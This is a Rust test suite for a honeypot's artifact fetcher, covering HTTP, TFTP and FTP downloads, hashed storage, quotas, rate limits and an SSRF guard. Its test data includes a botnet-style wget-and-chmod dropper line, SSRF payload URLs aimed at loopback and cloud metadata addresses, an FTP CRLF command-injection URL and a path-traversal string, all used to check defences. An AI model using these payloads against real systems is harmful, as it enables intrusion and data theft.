//! Fetcher behaviour against local servers: HTTP (wiremock and a raw chunked server),
//! TFTP and FTP servers written here, and the SSRF guard.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use std::net::SocketAddr;
use std::path::Path;
use std::time::Duration;

use hpti_sensors::fetch::{ArtifactStore, FetchConfig, FetchError, FetchTool, Fetcher};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, UdpSocket};
use tokio::task::JoinHandle;
use wiremock::matchers::{header, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn allowing_loopback() -> FetchConfig {
    FetchConfig {
        allow: vec!["127.0.0.1/32".into()],
        global_per_minute: 0,
        ..FetchConfig::default()
    }
}

fn fetcher(config: FetchConfig) -> (Fetcher, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let store = ArtifactStore::open(dir.path().join("artifacts")).unwrap();
    (Fetcher::new(config, store).unwrap(), dir)
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Every regular file under `dir`, recursively.
fn files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for entry in entries {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(files(&path));
        } else {
            out.push(path);
        }
    }
    out
}

async fn fetch(fetcher: &Fetcher, url: &str) -> Result<hpti_sensors::fetch::Fetched, FetchError> {
    let mut budget = fetcher.session_budget();
    fetcher.fetch(url, FetchTool::Wget, &mut budget).await
}

#[tokio::test]
async fn success_stores_by_sha256_privately() {
    let server = MockServer::start().await;
    let body = b"#!/bin/sh\ncd /tmp; wget http://example.invalid/x86; chmod +x x86\n".to_vec();
    Mock::given(method("GET"))
        .and(path("/bins.sh"))
        .and(header("user-agent", "Wget/1.21.3"))
        .respond_with(ResponseTemplate::new(200).set_body_bytes(body.clone()))
        .expect(1)
        .mount(&server)
        .await;
    let (fetcher, dir) = fetcher(allowing_loopback());

    let fetched = fetch(&fetcher, &format!("{}/bins.sh", server.uri()))
        .await
        .unwrap();

    let expected = sha256_hex(&body);
    assert_eq!(fetched.sha256, expected);
    assert_eq!(fetched.size, body.len() as u64);
    assert_eq!(fetched.content.as_ref(), body.as_slice());
    let store_dir = dir.path().join("artifacts");
    assert_eq!(
        fetched.stored_path,
        store_dir.join(&expected[..2]).join(&expected)
    );
    assert_eq!(std::fs::read(&fetched.stored_path).unwrap(), body);
    assert_eq!(files(&store_dir), vec![fetched.stored_path.clone()]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&fetched.stored_path)
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}

#[tokio::test]
async fn curl_sends_its_own_user_agent() {
    let server = MockServer::start().await;
    Mock::given(header("user-agent", "curl/7.88.1"))
        .respond_with(ResponseTemplate::new(200).set_body_string("ok"))
        .expect(1)
        .mount(&server)
        .await;
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let mut budget = fetcher.session_budget();
    let fetched = fetcher
        .fetch(&format!("{}/x", server.uri()), FetchTool::Curl, &mut budget)
        .await
        .unwrap();
    assert_eq!(fetched.content.as_ref(), b"ok");
}

#[tokio::test]
async fn same_content_twice_is_one_file() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("same payload"))
        .mount(&server)
        .await;
    let (fetcher, dir) = fetcher(allowing_loopback());
    let first = fetch(&fetcher, &format!("{}/a", server.uri()))
        .await
        .unwrap();
    let second = fetch(&fetcher, &format!("{}/b", server.uri()))
        .await
        .unwrap();
    assert_eq!(first.stored_path, second.stored_path);
    assert_eq!(files(&dir.path().join("artifacts")).len(), 1);

    // The store is shared with SFTP/SCP uploads: storing the bytes directly dedups too.
    let direct = fetcher
        .store()
        .store(b"same payload".to_vec())
        .await
        .unwrap();
    assert_eq!(direct.path, first.stored_path);
    let other = fetcher.store().store(b"other".to_vec()).await.unwrap();
    assert_ne!(other.path, first.stored_path);
    assert_eq!(files(&dir.path().join("artifacts")).len(), 2);
}

#[tokio::test]
async fn too_large_with_content_length_stores_nothing() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_bytes(vec![b'x'; 101]))
        .mount(&server)
        .await;
    let (fetcher, dir) = fetcher(FetchConfig {
        max_bytes: 100,
        ..allowing_loopback()
    });
    let error = fetch(&fetcher, &server.uri()).await.unwrap_err();
    assert_eq!(error, FetchError::TooLarge { limit: 100 });
    assert_eq!(error.label(), "too_large");
    assert!(files(&dir.path().join("artifacts")).is_empty());
}

/// Serves one chunked response of `total` bytes without a Content-Length, so the cap
/// must be enforced while streaming.
async fn chunked_server(total: usize) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let (stream, _) = listener.accept().await.unwrap();
        let (read, mut write) = stream.into_split();
        let mut lines = BufReader::new(read).lines();
        while let Some(line) = lines.next_line().await.unwrap() {
            if line.is_empty() {
                break;
            }
        }
        write
            .write_all(
                b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
            )
            .await
            .unwrap();
        let mut sent = 0;
        while sent < total {
            let n = (total - sent).min(64);
            let chunk = format!("{n:x}\r\n{}\r\n", "y".repeat(n));
            if write.write_all(chunk.as_bytes()).await.is_err() {
                return;
            }
            sent += n;
        }
        let _ = write.write_all(b"0\r\n\r\n").await;
    });
    addr
}

#[tokio::test]
async fn too_large_while_streaming() {
    let addr = chunked_server(1000).await;
    let (fetcher, dir) = fetcher(FetchConfig {
        max_bytes: 999,
        ..allowing_loopback()
    });
    let error = fetch(&fetcher, &format!("http://{addr}/"))
        .await
        .unwrap_err();
    assert_eq!(error, FetchError::TooLarge { limit: 999 });
    assert!(files(&dir.path().join("artifacts")).is_empty());

    // Exactly at the limit is fine.
    let addr = chunked_server(1000).await;
    let (fetcher, _dir) = fetcher_with_max(1000);
    let fetched = fetch(&fetcher, &format!("http://{addr}/")).await.unwrap();
    assert_eq!(fetched.size, 1000);
}

fn fetcher_with_max(max_bytes: u64) -> (Fetcher, tempfile::TempDir) {
    fetcher(FetchConfig {
        max_bytes,
        ..allowing_loopback()
    })
}

#[tokio::test]
async fn not_found_is_http_status() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(404))
        .mount(&server)
        .await;
    let (fetcher, dir) = fetcher(allowing_loopback());
    let error = fetch(&fetcher, &format!("{}/missing", server.uri()))
        .await
        .unwrap_err();
    assert_eq!(
        error,
        FetchError::HttpStatus {
            status: 404,
            reason: "Not Found".into()
        }
    );
    assert_eq!(error.label(), "http_status");
    assert_eq!(error.to_string(), "HTTP 404 Not Found");
    assert!(files(&dir.path().join("artifacts")).is_empty());
}

#[tokio::test]
async fn slow_server_times_out() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_string("late")
                .set_delay(Duration::from_secs(120)),
        )
        .mount(&server)
        .await;
    let (fetcher, _dir) = fetcher(FetchConfig {
        timeout: Duration::from_millis(300),
        ..allowing_loopback()
    });
    let error = fetch(&fetcher, &server.uri()).await.unwrap_err();
    assert_eq!(error, FetchError::Timeout);
    assert_eq!(error.label(), "timeout");
}

#[tokio::test]
async fn special_addresses_are_refused_without_allow() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("secret"))
        .mount(&server)
        .await;
    let port = server.address().port();
    let (fetcher, dir) = fetcher(FetchConfig {
        global_per_minute: 0,
        per_session: 100,
        ..FetchConfig::default()
    });
    let urls = [
        format!("http://127.0.0.1:{port}/"),
        format!("http://2130706433:{port}/"),
        format!("http://0x7f.1:{port}/"),
        format!("http://0177.0.0.1:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        format!("http://[::ffff:7f00:1]:{port}/"),
        "http://[::1]/".to_owned(),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "http://10.0.0.1/".to_owned(),
        "http://0.0.0.0/".to_owned(),
        "https://192.168.1.1/".to_owned(),
        "http://100.64.0.1/".to_owned(),
        "http://[fe80::1]/".to_owned(),
        "http://[fd00::1]/".to_owned(),
        "http://[64:ff9b::7f00:1]/".to_owned(),
        "http://[2002:7f00:1::]/".to_owned(),
        "ftp://127.0.0.1/x".to_owned(),
    ];
    for url in &urls {
        match fetch(&fetcher, url).await {
            Err(FetchError::ForbiddenAddress { .. }) => {}
            other => panic!("{url}: expected ForbiddenAddress, got {other:?}"),
        }
    }
    let mut budget = fetcher.session_budget();
    let tftp = fetcher
        .fetch("tftp://127.0.0.1/x", FetchTool::Tftp, &mut budget)
        .await;
    assert!(
        matches!(tftp, Err(FetchError::ForbiddenAddress { .. })),
        "{tftp:?}"
    );
    assert!(server.received_requests().await.unwrap().is_empty());
    assert!(files(&dir.path().join("artifacts")).is_empty());
}

#[tokio::test]
async fn names_resolving_to_special_addresses_are_refused() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("secret"))
        .mount(&server)
        .await;
    let port = server.address().port();
    let (fetcher, _dir) = fetcher(FetchConfig {
        global_per_minute: 0,
        ..FetchConfig::default()
    });
    let error = fetch(&fetcher, &format!("http://localhost:{port}/"))
        .await
        .unwrap_err();
    assert!(
        matches!(error, FetchError::ForbiddenAddress { .. }),
        "{error:?}"
    );
    assert_eq!(error.label(), "forbidden_address");
    assert!(server.received_requests().await.unwrap().is_empty());

    // Positive control: the same name is fetched once loopback is allowed (as long as
    // `localhost` resolves to 127.0.0.1 here, as it does on any sane system).
    let (allowed, _dir) = fetcher_with_max(1024);
    let fetched = fetch(&allowed, &format!("http://localhost:{port}/"))
        .await
        .unwrap();
    assert_eq!(fetched.content.as_ref(), b"secret");
}

#[tokio::test]
async fn redirects_are_checked_on_every_hop() {
    let server = MockServer::start().await;
    let port = server.address().port();
    let redirect = |to: String| ResponseTemplate::new(302).insert_header("location", to);
    Mock::given(path("/to-private"))
        .respond_with(redirect("http://10.0.0.1/x".into()))
        .mount(&server)
        .await;
    Mock::given(path("/to-v6-loopback"))
        .respond_with(redirect(format!("http://[::1]:{port}/ok")))
        .mount(&server)
        .await;
    Mock::given(path("/to-metadata"))
        .respond_with(redirect("http://169.254.169.254/latest/meta-data/".into()))
        .mount(&server)
        .await;
    Mock::given(path("/to-decimal"))
        .respond_with(redirect(format!("http://2130706434:{port}/ok")))
        .mount(&server)
        .await;
    Mock::given(path("/to-file"))
        .respond_with(redirect("file:///etc/passwd".into()))
        .mount(&server)
        .await;
    Mock::given(path("/loop"))
        .respond_with(redirect("/loop".into()))
        .mount(&server)
        .await;
    Mock::given(path("/to-ok"))
        .respond_with(redirect("/ok".into()))
        .mount(&server)
        .await;
    Mock::given(path("/ok"))
        .respond_with(ResponseTemplate::new(200).set_body_string("fine"))
        .mount(&server)
        .await;
    let (fetcher, _dir) = fetcher(FetchConfig {
        per_session: 100,
        ..allowing_loopback()
    });
    let base = server.uri();

    // Positive control: an allowed redirect is followed.
    let fetched = fetch(&fetcher, &format!("{base}/to-ok")).await.unwrap();
    assert_eq!(fetched.content.as_ref(), b"fine");

    for hop in ["to-private", "to-v6-loopback", "to-metadata", "to-decimal"] {
        let error = fetch(&fetcher, &format!("{base}/{hop}")).await.unwrap_err();
        assert!(
            matches!(error, FetchError::ForbiddenAddress { .. }),
            "{hop}: {error:?}"
        );
    }
    let error = fetch(&fetcher, &format!("{base}/to-file"))
        .await
        .unwrap_err();
    assert_eq!(error.label(), "redirect", "{error:?}");
    let error = fetch(&fetcher, &format!("{base}/loop")).await.unwrap_err();
    assert_eq!(error.label(), "redirect", "{error:?}");
    // Only the server's own /ok was ever fetched after a redirect.
    let oks = server
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.url.path() == "/ok")
        .count();
    assert_eq!(oks, 1);
}

#[tokio::test]
async fn disabled_fetches_nothing() {
    let server = MockServer::start().await;
    let (fetcher, _dir) = fetcher(FetchConfig {
        enabled: false,
        ..allowing_loopback()
    });
    let error = fetch(&fetcher, &server.uri()).await.unwrap_err();
    assert_eq!(error, FetchError::Disabled);
    assert_eq!(error.label(), "disabled");
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn session_budget_and_global_rate() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_string("x"))
        .mount(&server)
        .await;
    let (limited, _dir) = fetcher(FetchConfig {
        per_session: 2,
        ..allowing_loopback()
    });
    let mut budget = limited.session_budget();
    assert_eq!(budget.remaining(), 2);
    for _ in 0..2 {
        limited
            .fetch(&server.uri(), FetchTool::Wget, &mut budget)
            .await
            .unwrap();
    }
    let error = limited
        .fetch(&server.uri(), FetchTool::Wget, &mut budget)
        .await
        .unwrap_err();
    assert_eq!(error, FetchError::RateLimited);
    assert_eq!(error.label(), "rate_limited");
    // Another session has its own budget.
    let mut other = limited.session_budget();
    limited
        .fetch(&server.uri(), FetchTool::Wget, &mut other)
        .await
        .unwrap();

    let (global, _dir2) = fetcher(FetchConfig {
        global_per_minute: 1,
        ..allowing_loopback()
    });
    fetch(&global, &server.uri()).await.unwrap();
    assert_eq!(
        fetch(&global, &server.uri()).await.unwrap_err(),
        FetchError::RateLimited
    );
}

#[tokio::test]
async fn urls_and_schemes_are_validated() {
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let mut budget = fetcher.session_budget();
    let cases = [
        ("not a url", FetchTool::Wget, "bad_url"),
        ("http://", FetchTool::Wget, "bad_url"),
        ("gopher://127.0.0.1/", FetchTool::Curl, "unsupported_scheme"),
        ("file:///etc/passwd", FetchTool::Curl, "unsupported_scheme"),
        ("tftp://127.0.0.1/x", FetchTool::Wget, "unsupported_scheme"),
        ("http://127.0.0.1/x", FetchTool::Tftp, "unsupported_scheme"),
        (
            "http://127.0.0.1/x",
            FetchTool::Ftpget,
            "unsupported_scheme",
        ),
    ];
    for (url, tool, label) in cases {
        let error = fetcher.fetch(url, tool, &mut budget).await.unwrap_err();
        assert_eq!(error.label(), label, "{url}: {error:?}");
    }
    // None of these reached the network, so none used the budget.
    assert_eq!(budget.remaining(), fetcher.session_budget().remaining());
}

#[tokio::test]
async fn connection_refused_is_connect() {
    // Bind then drop to get a port nobody listens on.
    let port = TcpListener::bind("127.0.0.1:0")
        .await
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let error = fetch(&fetcher, &format!("http://127.0.0.1:{port}/"))
        .await
        .unwrap_err();
    assert_eq!(error.label(), "connect", "{error:?}");
}

#[test]
fn config_defaults_and_unknown_keys() {
    let config: FetchConfig =
        serde_json::from_str(r#"{"timeout": "5s", "allow": ["10.0.0.0/8"]}"#).unwrap();
    assert_eq!(config.timeout, Duration::from_secs(5));
    assert_eq!(config.max_bytes, 16 * 1024 * 1024);
    assert!(config.enabled);
    assert!(serde_json::from_str::<FetchConfig>(r#"{"timeot": "5s"}"#).is_err());

    let store = ArtifactStore::open(tempfile::tempdir().unwrap().path().join("s")).unwrap();
    let bad = FetchConfig {
        allow: vec!["10.0.0.0/33".into()],
        ..FetchConfig::default()
    };
    let error = Fetcher::new(bad, store).unwrap_err();
    assert!(error.to_string().contains("10.0.0.0/33"), "{error}");
}

// ---- TFTP ----

/// What the test TFTP server was asked for.
#[derive(Debug)]
struct TftpRequest {
    filename: String,
    mode: String,
}

/// A one-shot RFC 1350 server on loopback: answers one RRQ with `content` (or with an
/// error packet when `content` is `None`) from a fresh port, as real servers do.
async fn tftp_server(content: Option<Vec<u8>>) -> (SocketAddr, JoinHandle<TftpRequest>) {
    let listener = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let handle = tokio::spawn(async move {
        let mut buf = [0u8; 1024];
        let (n, client) = listener.recv_from(&mut buf).await.unwrap();
        assert_eq!(&buf[..2], &[0, 1], "not an RRQ");
        let mut fields = buf[2..n].split(|&b| b == 0);
        let filename = String::from_utf8(fields.next().unwrap().to_vec()).unwrap();
        let mode = String::from_utf8(fields.next().unwrap().to_vec()).unwrap();
        let request = TftpRequest { filename, mode };
        let transfer = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let Some(content) = content else {
            let mut error = vec![0, 5, 0, 1];
            error.extend_from_slice(b"File not found\0");
            transfer.send_to(&error, client).await.unwrap();
            return request;
        };
        let mut block: u16 = 1;
        let mut offset = 0;
        loop {
            let end = (offset + 512).min(content.len());
            let mut packet = vec![0, 3];
            packet.extend_from_slice(&block.to_be_bytes());
            packet.extend_from_slice(&content[offset..end]);
            let mut acked = false;
            for _attempt in 0..10 {
                transfer.send_to(&packet, client).await.unwrap();
                let reply =
                    tokio::time::timeout(Duration::from_secs(2), transfer.recv_from(&mut buf))
                        .await;
                match reply {
                    Ok(Ok((4, from)))
                        if from == client
                            && buf[..2] == [0, 4]
                            && buf[2..4] == block.to_be_bytes() =>
                    {
                        acked = true;
                        break;
                    }
                    // An error packet: the client gave up (e.g. file too large).
                    Ok(Ok((_, _))) if buf[..2] == [0, 5] => return request,
                    _ => {}
                }
            }
            if !acked || end - offset < 512 {
                return request;
            }
            offset = end;
            block += 1;
        }
    });
    (addr, handle)
}

async fn tftp_fetch(
    fetcher: &Fetcher,
    url: &str,
) -> Result<hpti_sensors::fetch::Fetched, FetchError> {
    let mut budget = fetcher.session_budget();
    fetcher.fetch(url, FetchTool::Tftp, &mut budget).await
}

#[tokio::test]
async fn tftp_round_trip() {
    // 1300 bytes: two full blocks and a short one.
    let content: Vec<u8> = (0..1300u32).map(|i| (i % 251) as u8).collect();
    let (addr, server) = tftp_server(Some(content.clone())).await;
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let fetched = tftp_fetch(&fetcher, &format!("tftp://{addr}/mips%20bin"))
        .await
        .unwrap();
    assert_eq!(fetched.content.as_ref(), content.as_slice());
    assert_eq!(fetched.sha256, sha256_hex(&content));
    assert_eq!(std::fs::read(&fetched.stored_path).unwrap(), content);
    let request = server.await.unwrap();
    assert_eq!(request.filename, "mips bin");
    assert_eq!(request.mode, "octet");
}

#[tokio::test]
async fn tftp_multiple_of_block_size_ends_with_empty_block() {
    let content = vec![7u8; 1024];
    let (addr, server) = tftp_server(Some(content.clone())).await;
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let mut budget = fetcher.session_budget();
    // curl fetches tftp:// too.
    let fetched = fetcher
        .fetch(&format!("tftp://{addr}/f"), FetchTool::Curl, &mut budget)
        .await
        .unwrap();
    assert_eq!(fetched.content.as_ref(), content.as_slice());
    server.await.unwrap();
}

#[tokio::test]
async fn tftp_too_large_and_server_errors() {
    let (addr, server) = tftp_server(Some(vec![1u8; 2000])).await;
    let (fetcher, dir) = fetcher_with_max(1000);
    let error = tftp_fetch(&fetcher, &format!("tftp://{addr}/big"))
        .await
        .unwrap_err();
    assert_eq!(error, FetchError::TooLarge { limit: 1000 });
    server.await.unwrap();
    assert!(files(&dir.path().join("artifacts")).is_empty());

    let (addr, server) = tftp_server(None).await;
    let error = tftp_fetch(&fetcher, &format!("tftp://{addr}/missing"))
        .await
        .unwrap_err();
    assert_eq!(error.label(), "protocol");
    assert!(error.to_string().contains("File not found"), "{error}");
    server.await.unwrap();
}

// ---- FTP ----

/// A one-shot FTP server on loopback. Its PASV reply names 10.0.0.1, which the client
/// must ignore (it has to use the control connection's address). Returns the commands
/// it received.
async fn ftp_server(content: Vec<u8>) -> (SocketAddr, JoinHandle<Vec<String>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let handle = tokio::spawn(async move {
        let (stream, _) = listener.accept().await.unwrap();
        let (read, mut write) = stream.into_split();
        let mut lines = BufReader::new(read).lines();
        write
            .write_all(b"220-Welcome to the test server\r\n220 ready\r\n")
            .await
            .unwrap();
        let mut commands = Vec::new();
        let mut data_listener = None;
        while let Ok(Some(line)) = lines.next_line().await {
            commands.push(line.clone());
            let verb = line
                .split(' ')
                .next()
                .unwrap_or_default()
                .to_ascii_uppercase();
            let reply: &[u8] = match verb.as_str() {
                "USER" => b"331 password please\r\n",
                "PASS" => b"230 logged in\r\n",
                "TYPE" => b"200 binary\r\n",
                "PASV" => {
                    let data = TcpListener::bind("127.0.0.1:0").await.unwrap();
                    let port = data.local_addr().unwrap().port();
                    data_listener = Some(data);
                    let reply = format!(
                        "227 Entering Passive Mode (10,0,0,1,{},{})\r\n",
                        port >> 8,
                        port & 0xff
                    );
                    write.write_all(reply.as_bytes()).await.unwrap();
                    continue;
                }
                "RETR" => {
                    write
                        .write_all(b"150 opening data connection\r\n")
                        .await
                        .unwrap();
                    let (mut data, _) = data_listener.take().unwrap().accept().await.unwrap();
                    data.write_all(&content).await.unwrap();
                    data.shutdown().await.unwrap();
                    drop(data);
                    b"226 transfer complete\r\n"
                }
                "QUIT" => {
                    let _ = write.write_all(b"221 bye\r\n").await;
                    break;
                }
                _ => b"502 not implemented\r\n",
            };
            write.write_all(reply).await.unwrap();
        }
        commands
    });
    (addr, handle)
}

#[tokio::test]
async fn ftp_round_trip_ignores_pasv_address() {
    let content: Vec<u8> = (0..5000u32).map(|i| (i % 256) as u8).collect();
    let (addr, server) = ftp_server(content.clone()).await;
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let mut budget = fetcher.session_budget();
    let url = format!("ftp://bot:s3cret@{addr}/pub/x86%20bin");
    let fetched = fetcher
        .fetch(&url, FetchTool::Ftpget, &mut budget)
        .await
        .unwrap();
    assert_eq!(fetched.content.as_ref(), content.as_slice());
    assert_eq!(fetched.sha256, sha256_hex(&content));
    let commands = server.await.unwrap();
    assert_eq!(
        commands,
        [
            "USER bot",
            "PASS s3cret",
            "TYPE I",
            "PASV",
            "RETR pub/x86 bin",
            "QUIT"
        ]
    );
}

#[tokio::test]
async fn ftp_refuses_command_injection_and_caps_size() {
    let (addr, server) = ftp_server(vec![0u8; 10]).await;
    let (fetcher, _dir) = fetcher(allowing_loopback());
    let mut budget = fetcher.session_budget();
    let url = format!("ftp://{addr}/x%0d%0aDELE%20y");
    let error = fetcher
        .fetch(&url, FetchTool::Wget, &mut budget)
        .await
        .unwrap_err();
    assert_eq!(error.label(), "bad_url", "{error:?}");
    server.abort();

    let (addr, server) = ftp_server(vec![0u8; 10]).await;
    let (fetcher, _dir) = fetcher_with_max(9);
    let mut budget = fetcher.session_budget();
    let error = fetcher
        .fetch(&format!("ftp://{addr}/x"), FetchTool::Wget, &mut budget)
        .await
        .unwrap_err();
    assert_eq!(error, FetchError::TooLarge { limit: 9 });
    server.abort();
}

#[tokio::test]
async fn store_keeps_empty_files_and_validates_hashes() {
    let dir = tempfile::tempdir().unwrap();
    let store = ArtifactStore::open(dir.path().join("a/b/c")).unwrap();
    let empty = store.store(Vec::new()).await.unwrap();
    assert_eq!(empty.size, 0);
    assert_eq!(empty.sha256, sha256_hex(b""));
    let mut read = Vec::new();
    tokio::fs::File::open(&empty.path)
        .await
        .unwrap()
        .read_to_end(&mut read)
        .await
        .unwrap();
    assert!(read.is_empty());
    // No temporary files left behind.
    assert_eq!(files(&dir.path().join("a/b/c")).len(), 1);
    assert_eq!(store.path_for(&empty.sha256), Some(empty.path.clone()));
    assert_eq!(store.path_for("../../etc/passwd"), None);
    assert_eq!(store.path_for(&empty.sha256.to_uppercase()), None);
}

#[tokio::test]
async fn the_store_refuses_content_past_its_quota_and_counts_it() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("artifacts");
    std::fs::create_dir_all(root.join("zz")).unwrap();
    std::fs::write(root.join("zz/old"), vec![0u8; 30]).unwrap();
    let refused = prometheus_client::metrics::counter::Counter::default();
    let store = ArtifactStore::open_with_quota(&root, 100, refused.clone()).unwrap();
    assert_eq!(store.quota().unwrap().used(), 30);
    store.store(vec![1u8; 50]).await.unwrap();
    let err = store.store(vec![2u8; 30]).await.unwrap_err();
    assert_eq!(err.source.kind(), std::io::ErrorKind::StorageFull);
    assert_eq!(refused.get(), 1);
    // Content already kept costs nothing; a smaller file still fits.
    store.store(vec![1u8; 50]).await.unwrap();
    store.store(vec![3u8; 20]).await.unwrap();
    assert!(store.store(vec![4u8; 1]).await.is_err());
    assert_eq!(refused.get(), 2);
    let on_disk: u64 = std::fs::read_dir(&root)
        .unwrap()
        .flat_map(|d| std::fs::read_dir(d.unwrap().path()).unwrap())
        .map(|f| f.unwrap().metadata().unwrap().len())
        .sum();
    assert_eq!(on_disk, 100);
}

#[tokio::test]
async fn stores_on_one_directory_share_one_quota() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("artifacts");
    let counter = prometheus_client::metrics::counter::Counter::default;
    let ssh = ArtifactStore::open_with_quota(&root, 100, counter()).unwrap();
    let telnet = ArtifactStore::open_with_quota(&root, 100, counter()).unwrap();
    ssh.store(vec![1u8; 60]).await.unwrap();
    assert!(telnet.store(vec![2u8; 60]).await.is_err());
    assert_eq!(telnet.quota().unwrap().used(), 60);
}
